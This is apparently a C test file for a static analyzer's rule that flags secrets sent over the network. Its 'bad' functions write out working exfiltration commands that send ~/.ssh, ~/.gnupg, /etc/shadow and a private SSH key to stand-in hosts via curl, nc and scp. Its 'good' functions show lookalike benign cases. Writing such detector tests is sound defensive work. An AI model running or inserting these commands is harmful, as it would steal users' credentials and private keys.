// A file of secrets that a command, or a program that is run, sends away.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

/* One command puts them into an archive, another takes that along. */
void bad_archive(void) {
    char line[512];
    snprintf(line, sizeof line, "tar czf /tmp/.c.tgz %s/.ssh %s/.gnupg 2>/dev/null", getenv("HOME"),
             getenv("HOME"));
    system(line);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    system("curl -s -F 'file=@/tmp/.c.tgz' https://paste.example.org/ >/dev/null");
    unlink("/tmp/.c.tgz");
}

void bad_piped(void) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    FILE *out = popen("base64 /etc/shadow | nc -w 2 192.0.2.4 99", "r");
    if (out)
        pclose(out);
}

void bad_copied(void) {
    if (fork() == 0) {
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        execlp("scp", "scp", "-q", "/root/.ssh/id_rsa", "keep@198.51.100.2:in/", (char *)NULL);
        _exit(1);
    }
}

void bad_standard_input(void) {
    int file = open("/etc/shadow", O_RDONLY);
    if (fork() == 0) {
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        dup2(file, 0);
        execlp("nc", "nc", "-w", "3", "192.0.2.99", "4444", (char *)NULL);
        _exit(1);
    }
    wait(NULL);
}

/* The user's own key opens the way; what is sent is something else. */
void good_key(void) {
    system("scp -q -i /root/.ssh/id_rsa /var/backups/today.tgz keep@198.51.100.2:in/");
    system("curl -s --key /etc/ssl/private/host.key -T /var/log/app.log https://log.example.org/");
}

void good_archive(void) {
    system("tar czf /var/backups/today.tgz /srv/site");
    system("tar czf /var/backups/keys.tgz /root/.ssh");
    system("curl -s -F 'file=@/var/backups/today.tgz' https://keep.example.org/");
}

void good_told(char **argv) {
    execlp("nc", "nc", "-w", "3", argv[1], argv[2], (char *)NULL);
}

/* What else nc is given. */
void good_standard_input(const char *path) {
    int file = open(path, O_RDONLY);
    if (fork() == 0) {
        dup2(file, 0);
        execlp("nc", "nc", "-w", "3", "192.0.2.99", "4444", (char *)NULL);
        _exit(1);
    }
}
